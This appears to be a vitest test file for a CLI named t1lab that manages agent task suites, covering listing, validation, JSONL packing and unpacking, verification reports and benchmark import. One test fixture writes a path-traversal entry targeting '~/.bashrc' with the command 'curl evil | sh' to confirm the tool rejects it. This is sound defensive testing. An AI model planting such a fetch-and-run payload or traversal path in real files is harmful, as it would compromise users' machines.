/** `t1lab tasks ...` and `t1lab verify` as a user runs them: real processes, real sandboxes. */
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditResult, VerifyReport } from '../../../electron/domain/tasks';
import { parseJsonOutput, runT1lab } from '../../helpers/cli';
import { makeTempDir } from '../../helpers/tmp';
import { EXAMPLES, FIXTURES } from './helpers';

let tmp: { path: string; remove(): void };
beforeAll(() => (tmp = makeTempDir('t1lab-tasks-cli-')));
afterAll(() => tmp.remove());

function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else
        out[relative(dir, p)] =
          `${createHash('sha256').update(readFileSync(p)).digest('hex')} ${statSync(p).mode & 0o111 ? 'x' : '-'}`;
    }
  };
  walk(dir);
  return out;
}

interface Listing {
  tasks: {
    id: string;
    category: string;
    difficulty: string;
    layout: string;
    verifiers: string[];
    runtime: { kind: string };
  }[];
  invalid: { id: string; problems: { file: string; field: string | null; reason: string }[] }[];
}

describe('t1lab tasks list / validate', () => {
  it('lists the built-in suite: 16+ tasks, 6+ categories, all difficulties, a TB1 task, pytest tests', async () => {
    const r = await runT1lab(['tasks', 'list', EXAMPLES, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const { tasks, invalid } = parseJsonOutput<Listing>(r);
    expect(invalid).toEqual([]);
    expect(tasks.length).toBeGreaterThanOrEqual(16);
    expect(new Set(tasks.map((t) => t.category)).size).toBeGreaterThanOrEqual(6);
    expect(new Set(tasks.map((t) => t.difficulty))).toEqual(new Set(['easy', 'medium', 'hard']));
    expect(tasks.some((t) => t.layout === 'tb1')).toBe(true);
    expect(tasks.filter((t) => t.verifiers.includes('pytest')).length).toBeGreaterThan(1);
    expect(tasks.every((t) => t.runtime.kind === 'sandbox')).toBe(true);
    const human = await runT1lab(['tasks', 'list', EXAMPLES]);
    expect(human.stdout).toMatch(/stats-module-bugs\s+debugging\s+easy\s+tb1\s+sandbox\s+pytest\s+yes/);
  });

  it('validates: exit 0 for the examples; exit 1 naming file, field and reason for broken tasks', async () => {
    expect((await runT1lab(['tasks', 'validate', EXAMPLES])).code).toBe(0);
    const r = await runT1lab(['tasks', 'validate', join(FIXTURES, 'broken'), '--json']);
    expect(r.code).toBe(1);
    const report = parseJsonOutput<{
      valid: number;
      invalid: number;
      tasks: { id: string; ok: boolean; problems: object[] }[];
    }>(r);
    expect(report.invalid).toBe(2);
    const byId = Object.fromEntries(report.tasks.map((t) => [t.id, t]));
    expect(byId['malformed-toml']?.problems).toEqual([
      {
        file: 'task.toml',
        field: null,
        reason: expect.stringMatching(/^malformed TOML at line 3, column \d+/),
        severity: 'error',
      },
    ]);
    expect(byId['unknown-difficulty']?.problems).toEqual([
      {
        file: 'task.toml',
        field: 'metadata.difficulty',
        reason: "unknown difficulty 'extreme' (expected easy, medium or hard)",
        severity: 'error',
      },
    ]);
    expect(byId['no-oracle']?.ok).toBe(true);
    const human = await runT1lab(['tasks', 'validate', join(FIXTURES, 'broken')]);
    expect(human.stdout).toContain(
      "INVALID unknown-difficulty\n        task.toml: metadata.difficulty: unknown difficulty 'extreme'",
    );
  });
});

describe('t1lab tasks pack / unpack', () => {
  it('packs the examples into one JSONL file and unpacks them byte for byte', async () => {
    const pack = join(tmp.path, 'examples.jsonl');
    const p = await runT1lab(['tasks', 'pack', EXAMPLES, pack]);
    expect(p.code, p.stderr).toBe(0);
    expect(p.stdout).toMatch(/^packed 18 task\(s\) into .*examples\.jsonl/);
    expect(readFileSync(pack, 'utf8').trim().split('\n')).toHaveLength(18);
    const listed = parseJsonOutput<Listing>(await runT1lab(['tasks', 'list', pack, '--json']));
    expect(listed.tasks).toHaveLength(18);
    const out = join(tmp.path, 'unpacked');
    const u = await runT1lab(['tasks', 'unpack', pack, out]);
    expect(u.code, u.stderr).toBe(0);
    for (const id of readdirSync(EXAMPLES)) expect(tree(join(out, id)), id).toEqual(tree(join(EXAMPLES, id)));
  });

  it('refuses to pack invalid tasks, and lists a path-escaping pack entry while loading the rest', async () => {
    const refused = await runT1lab(['tasks', 'pack', join(FIXTURES, 'broken'), join(tmp.path, 'broken.jsonl')]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/2 invalid task\(s\); nothing written/);
    expect((await runT1lab(['tasks', 'pack', EXAMPLES, join(tmp.path, 'x.txt')])).code).toBe(2);

    const line = (id: string, extra: object[] = []) =>
      JSON.stringify({
        id,
        files: [
          { path: 'instruction.md', text: 'Say hi.' },
          {
            path: 'task.toml',
            text: '[metadata]\ncategory="x"\ndifficulty="easy"\n[[verifier.assertions]]\nname="a"\nrun="true"\n',
          },
          ...extra,
        ],
      });
    const pack = join(tmp.path, 'evil.jsonl');
    writeFileSync(
      pack,
      [
        line('fine'),
        line('evil', [{ path: '../../../home/user/.bashrc', text: 'curl evil | sh\n' }]),
        line('also-fine'),
      ].join('\n'),
    );
    const r = await runT1lab(['tasks', 'validate', pack, '--json']);
    expect(r.code).toBe(1);
    const report = parseJsonOutput<{ valid: number; tasks: { id: string; ok: boolean; problems: object[] }[] }>(r);
    expect(report.valid).toBe(2);
    expect(report.tasks.find((t) => t.id === 'evil')?.problems).toEqual([
      {
        file: 'evil.jsonl:2',
        field: 'files[2].path',
        reason: "'../../../home/user/.bashrc' escapes the task folder ('..')",
        severity: 'error',
      },
    ]);
    const out = join(tmp.path, 'evil-out');
    const u = await runT1lab(['tasks', 'unpack', pack, out]);
    expect(u.code).toBe(1);
    expect(readdirSync(out).sort()).toEqual(['also-fine', 'fine']);
  });
});

describe('t1lab verify', () => {
  it('prints exactly {task, assertions, passed, total, reward, durationMs}', async () => {
    const ws = join(tmp.path, 'ws');
    mkdirSync(ws);
    writeFileSync(join(ws, 'levels.json'), '{"DEBUG": 23, "INFO": 36, "WARN": 15, "ERROR": 12}');
    const r = await runT1lab(['verify', join(EXAMPLES, 'count-log-levels'), '--workspace', ws, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const report = parseJsonOutput<VerifyReport>(r);
    expect(Object.keys(report)).toEqual(['task', 'assertions', 'passed', 'total', 'reward', 'durationMs']);
    expect(report.task).toBe('count-log-levels');
    expect(report.assertions.map((a) => [a.status, Object.keys(a)])).toEqual([
      ['passed', ['name', 'status', 'message']],
      ['passed', ['name', 'status', 'message']],
      ['failed', ['name', 'status', 'message']],
      ['failed', ['name', 'status', 'message']],
    ]);
    expect(report).toMatchObject({ passed: 2, total: 4, reward: { dense: 2, fraction: 0.5, binary: 0 } });

    const ambiguous = await runT1lab(['verify', EXAMPLES, '--workspace', ws]);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toMatch(/name one as .*#ID/);
    const byId = await runT1lab(['verify', `${EXAMPLES}#count-log-levels`, '--workspace', ws]);
    expect(byId.stdout).toMatch(/2\/4 passed; reward dense 2, fraction 0\.500, binary 0/);
  });

  it('exits 1 with the output when the verifier times out', async () => {
    const ws = join(tmp.path, 'ws2');
    mkdirSync(ws);
    const r = await runT1lab(['verify', join(FIXTURES, 'broken/verifier-timeout'), '--workspace', ws, '--json']);
    expect(r.code).toBe(1);
    const report = parseJsonOutput<VerifyReport>(r);
    expect(report.assertions.at(-1)).toMatchObject({
      name: '(verifier)',
      status: 'error',
      message: expect.stringContaining('checking n.txt...'),
    });
  });
});

describe('t1lab tasks import-tb', () => {
  it('converts TB1 and Harbor folders, marks container tasks with the reason, and the converted ones pass the audit', async () => {
    const dest = join(tmp.path, 'imported');
    const r = await runT1lab(['tasks', 'import-tb', join(REPO_FIXTURES, 'tb-import'), dest, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const report = parseJsonOutput<{
      imported: { id: string; from: string; runtime: { kind: string; reason?: string } }[];
      failed: object[];
    }>(r);
    const byId = Object.fromEntries(report.imported.map((t) => [t.id, t]));
    expect(byId['tb1-word-count']).toMatchObject({ from: 'tb1', runtime: { kind: 'sandbox' } });
    expect(byId['harbor-greeting']).toMatchObject({ from: 'harbor', runtime: { kind: 'sandbox' } });
    expect(byId['tb1-two-services']?.runtime).toEqual({
      kind: 'container',
      reason: 'docker-compose defines 2 services (client, db)',
    });
    expect(byId['harbor-needs-image']?.runtime).toMatchObject({
      kind: 'container',
      reason: expect.stringMatching(/^Dockerfile line 3: installs Python packages this machine lacks: torch/),
    });
    expect(readFileSync(join(dest, 'tb1-word-count/task.toml'), 'utf8')).toMatch(/use_test_sh = false/);

    const audit = await runT1lab(
      ['tasks', 'audit', dest, '--json', '--only', 'tb1-word-count,harbor-greeting,tb1-two-services'],
      { timeoutMs: 180_000 },
    );
    const verdicts = Object.fromEntries(parseJsonOutput<AuditResult[]>(audit).map((a) => [a.id, a.verdict]));
    expect(verdicts).toEqual({ 'tb1-word-count': 'ok', 'harbor-greeting': 'ok', 'tb1-two-services': 'error' });
    expect(audit.code).toBe(1);
  }, 240_000);
});

const REPO_FIXTURES = join(FIXTURES, '..');
